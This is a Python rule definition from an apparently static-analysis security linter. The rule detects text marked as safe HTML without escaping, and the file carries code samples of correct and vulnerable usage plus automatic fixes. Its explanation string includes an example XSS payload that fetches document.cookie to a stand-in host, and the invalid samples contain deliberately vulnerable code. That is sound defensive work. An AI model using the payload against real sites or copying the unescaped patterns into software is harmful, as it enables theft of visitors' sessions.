"""TG109: text marked as safe HTML although it contains user data or formatted values."""

from __future__ import annotations

import ast

from tabguard.engine.rule import Invalid, Rule
from tabguard.rules.injection import last_names
from tabguard.rules.injection._html import MARK_SAFE, escape_fix
from tabguard.rules.injection._safe_text import escaping_aware, safe_text
from tabguard.rules.injection._strings import all_values_through, built_string, raised, unconfirmed

_ESCAPERS = frozenset({"escape", "conditional_escape", "escape_html", "clean", "int", "len", "urlencode", "quote"})
# The program's own text in the user's language (its message catalogues), e.g. a `format_html` template.
_TRANSLATIONS = frozenset(
    {
        "_",
        "gettext",
        "gettext_lazy",
        "ugettext",
        "ugettext_lazy",
        "pgettext",
        "pgettext_lazy",
        "ngettext",
        "ngettext_lazy",
        "lazy_gettext",
    }
)
_OWN_TEXT = _ESCAPERS | _TRANSLATIONS


class UnsafeMarkup(Rule):
    id = "TG109"
    name = "unescaped-markup"
    severity = "medium"
    confidence = "high"
    lowers_confidence_without_taint = True
    raises_when_tainted = True
    cwe = (79,)
    owasp = "A05:2025"
    message = "`{callee}` marks {what} as safe HTML"
    placeholders = {"callee": "Markup", "what": "formatted text"}
    aliases = ("B703", "B308", "S308")
    call_names = last_names(MARK_SAFE)
    what = (
        "`{callee}` tells the template engine that its argument is already-escaped HTML, but the argument "
        "is {what}; auto-escaping is switched off for it."
    )
    why = (
        "A comment, user name or query parameter such as `<img src=x onerror=fetch('//evil.test?c='+document.cookie)>` "
        "is sent to the browser as markup and runs as script in every visitor's session: stored or "
        'reflected XSS. `Markup(f"<b>{{name}}</b>")` escapes nothing; `Markup("<b>{{}}</b>").format(name)` does.'
    )
    how = (
        "Let the template escape values, or build markup with the escaping helpers: "
        '`Markup("<b>{{}}</b>").format(name)`, `format_html("<b>{{}}</b>", name)` in Django; sanitise '
        "rich text with an HTML sanitiser (e.g. `nh3.clean`) before marking it safe."
    )
    example = 'Markup("<b>{}</b>").format(name)\nformat_html("<a href=\\"{}\\">{}</a>", url, label)'
    fix_safety = (
        "Unsafe: each value spliced into the text marked safe is wrapped in `html.escape(str(...))` "
        "(the whole value when it is passed directly), so user text containing `<`, `&` or quotes shows "
        "literally instead of becoming markup."
    )
    references = (
        "https://cwe.mitre.org/data/definitions/79.html",
        "https://markupsafe.palletsprojects.com/en/stable/escaping/",
        "https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.html.format_html",
    )
    VALID = (
        'from markupsafe import Markup\ndef f(name):\n    return Markup("<b>{}</b>").format(name)\n',
        'from django.utils.html import format_html\ndef f(url, label):\n    return format_html("<a href=\\"{}\\">{}</a>", url, label)\n',
        'from markupsafe import Markup\nICON = Markup("<svg></svg>")\n',
        "from django.utils.safestring import mark_safe\ndef f(html):\n    return mark_safe(html)\n",
        'from markupsafe import Markup, escape\ndef f(name):\n    return Markup(f"<b>{escape(name)}</b>")\n',
        # A template made of translated messages; format_html escapes the values it fills in.
        "from django.utils.html import format_html\nfrom django.utils.translation import gettext as _\n"
        'def added(obj, editable):\n    msg = _("The {obj} was added.")\n    if editable:\n'
        '        msg += " " + _("You may edit it again below.")\n    return format_html(msg, obj=obj)\n',
        # Made only of escaped values, translated text and rendered markup, through joins and lists.
        "from markupsafe import Markup, escape\ndef paragraphs(texts):\n"
        '    return Markup("\\n".join(f"<p>{escape(x)}</p>" for x in texts))\n',
        "from django.utils.safestring import SafeString\nclass NodeList(list):\n    def render(self, context):\n"
        '        return SafeString("".join(node.render(context) for node in self))\n',
        "from markupsafe import Markup, escape\ndef attributes(ident, d):\n    items = [f'id=\"{escape(ident)}\"']\n"
        "    for key, value in d.items():\n        items.append(f'{escape(key)}=\"{escape(value)}\"')\n"
        "    return Markup(' '.join(items))\n",
        "from django.utils.safestring import mark_safe\nfrom django.utils.translation import gettext as _\n"
        "def toggle():\n    label = _('Select all')\n"
        '    return mark_safe(f\'<input type="checkbox" aria-label="{label}">\')\n',
        # A Django helper handed a record its view fetched: the page's stored fields, not the URL.
        "from django.http import HttpResponse\nfrom django.utils.safestring import mark_safe\n"
        "def render_page(request, page):\n    page.title = mark_safe(page.title)\n"
        "    return HttpResponse(TEMPLATE.render({'page': page}, request))\n",
        # A template filter that escapes according to the engine's autoescape flag, then marks safe.
        "from django.utils.html import escape\nfrom django.utils.safestring import mark_safe\n"
        "def numbered(value, autoescape=True):\n    lines = value.split('\\n')\n    if autoescape:\n"
        "        lines = [escape(line) for line in lines]\n"
        "    return mark_safe('<br>'.join('%d. %s' % (i, line) for i, line in enumerate(lines, 1)))\n",
    )
    INVALID = (
        Invalid(
            "from django.utils.safestring import mark_safe\ndef attrs(opts):\n    items = []\n"
            "    for key, value in opts.items():\n        items.append(f'{key}=\"{value}\"')\n"
            '    return mark_safe(" ".join(items))\n',
        ),
        Invalid(
            'from markupsafe import Markup\ndef f(name):\n    return Markup(f"<b>{name}</b>")\n',
            'import html\nfrom markupsafe import Markup\ndef f(name):\n    return Markup(f"<b>{html.escape(str(name))}</b>")\n',
        ),
        Invalid(
            "from django.utils.safestring import mark_safe\ndef view(request):\n"
            '    return mark_safe(request.GET["bio"])\n',
            "import html\nfrom django.utils.safestring import mark_safe\ndef view(request):\n"
            '    return mark_safe(html.escape(str(request.GET["bio"])))\n',
        ),
        Invalid(
            'from django.utils.html import format_html\ndef f(c):\n    return format_html("<i>%s</i>" % c)\n',
            'import html\nfrom django.utils.html import format_html\ndef f(c):\n    return format_html("<i>%s</i>" % html.escape(str(c)))\n',
        ),
        # Through a join: one unescaped value is enough; a render helper of this module is no escaper.
        Invalid(
            "from django.utils.safestring import mark_safe\ndef render_comment(c):\n"
            '    return f"<p>{c.body}</p>"\n\n\ndef comments_html(comments):\n'
            '    return mark_safe("".join(render_comment(c) for c in comments))\n',
            "import html\nfrom django.utils.safestring import mark_safe\ndef render_comment(c):\n"
            '    return f"<p>{c.body}</p>"\n\n\ndef comments_html(comments):\n'
            '    return mark_safe("".join(html.escape(str(render_comment(c))) for c in comments))\n',
        ),
        Invalid(
            "from markupsafe import Markup\ndef paragraphs(texts):\n"
            '    return Markup("\\n".join(f"<p>{x}</p>" for x in texts))\n',
            "import html\nfrom markupsafe import Markup\ndef paragraphs(texts):\n"
            '    return Markup("\\n".join(f"<p>{html.escape(str(x))}</p>" for x in texts))\n',
        ),
        Invalid(
            "from markupsafe import Markup, escape\ndef attributes(css, title):\n"
            "    return Markup(' '.join([f'class=\"{css}\"', f'title=\"{escape(title)}\"']))\n",
            "import html\nfrom markupsafe import Markup, escape\ndef attributes(css, title):\n"
            "    return Markup(' '.join([f'class=\"{html.escape(str(css))}\"', f'title=\"{escape(title)}\"']))\n",
        ),
    )

    def visit_Call(self, node: ast.Call, ctx) -> None:
        callee = ctx.call_name(node) or ""
        if callee not in MARK_SAFE or not node.args:
            return
        html = node.args[0]
        source = ctx.taint(html)
        built = built_string(html, ctx)
        if source is None and (
            built is None
            or all_values_through(built, ctx, _OWN_TEXT)
            or safe_text(html, ctx, _OWN_TEXT)
            or escaping_aware(ctx)
        ):
            return  # nothing unescaped goes in, or a filter decides what to escape by the autoescape flag
        what = f"user input ({source.label})" if source else "text built by string formatting"
        ctx.report(
            self,
            html,
            details={"callee": callee.split(".")[-1], "what": what},
            source=source,
            severity=raised(self, source),
            confidence=unconfirmed(self, source),
            fix=escape_fix(ctx, html, only_tainted=False, escaped=_ESCAPERS),
        )
